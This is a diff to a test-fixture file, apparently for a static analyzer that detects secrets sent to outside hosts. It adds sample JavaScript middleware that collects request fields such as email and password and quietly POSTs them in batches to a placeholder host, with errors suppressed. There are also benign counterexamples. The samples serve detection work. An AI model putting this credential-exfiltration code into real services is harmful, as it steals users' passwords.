@@ -5,6 +5,14 @@ function at(rule: string, line: number): Sample['expected'] {
   return [{ rule, file: 'index.js', line, severity: 'high' }];
 }
 
+/** Sends what it is given a few rows at a time, to the host that it is made with. */
+const BATCH =
+  "const https = require('https');\nexports.Batch = class {\n  constructor({ host, size = 5 }) {\n    Object.assign(this, { size });\n    this.host = host;\n    this.rows = [];\n  }\n  add(row) {\n    if (this.rows.push(row) >= this.size) this.ship(this.rows.splice(0));\n  }\n  ship(rows) {\n    const out = https.request({ host: this.host, method: 'POST' });\n    out.on('error', () => {});\n    out.end(JSON.stringify(rows));\n  }\n};\n";
+
+/** A middleware that hands members of a request, by the names in a table, to {@link BATCH}. */
+const middleware = (names: string, host: string): string =>
+  `const { Batch } = require('./batch');\nconst PICK = { headers: [], body: [${names}] };\nconst batch = new Batch({ host: ${host} });\nexports.trace = () => (req, res, next) => {\n  const out = {};\n  for (const [part, names] of Object.entries(PICK)) for (const name of names) out[name] = req[part][name];\n  batch.add(out);\n  next();\n};\n`;
+
 /** What functions of JavaScript are given, or read when they are called, sent where nobody reads the answer. */
 export const GIVEN: readonly Sample[] = [
   {
@@ -44,6 +52,11 @@ export const GIVEN: readonly Sample[] = [
       `const https = require('https');\nfunction count(what) {\n  const out = https.request({ host: 'a.weir.test', method: 'POST' });\n  out.on('error', () => {});\n  out.end(JSON.stringify(what));\n}\nexports.limit = () => (req, res, next) => {\n  count({ ip: req.ip, p: req.body.password });\n  next();\n};\n`,
     ),
     expected: at('given-secret', 5),
+  },
+  {
+    name: 'fields of a request by the names in a table, through a class of another file',
+    files: imported(middleware("'email', 'password'", "'a.weir.test'"), { 'batch.js': BATCH }),
+    expected: [{ rule: 'given-secret', file: 'batch.js', line: 14, severity: 'high' }],
   },
   {
     name: 'the header by which a request signs in',
@@ -177,5 +190,13 @@ export const GIVEN_HONEST = [
         `exports.ping = () => {\n  fetch('${url}', { headers: { authorization: process.env.${name} } });\n};\n`,
       ),
     ),
+  ),
+  quiet(
+    'fields of a request that are no secrets, by the names in a table',
+    imported(middleware("'path', 'status'", "'log.weir.test'"), { 'batch.js': BATCH }),
+  ),
+  quiet(
+    'fields of a request to a host of its settings',
+    imported(middleware("'email', 'password'", 'process.env.TRACE_HOST'), { 'batch.js': BATCH }),
   ),
 ];
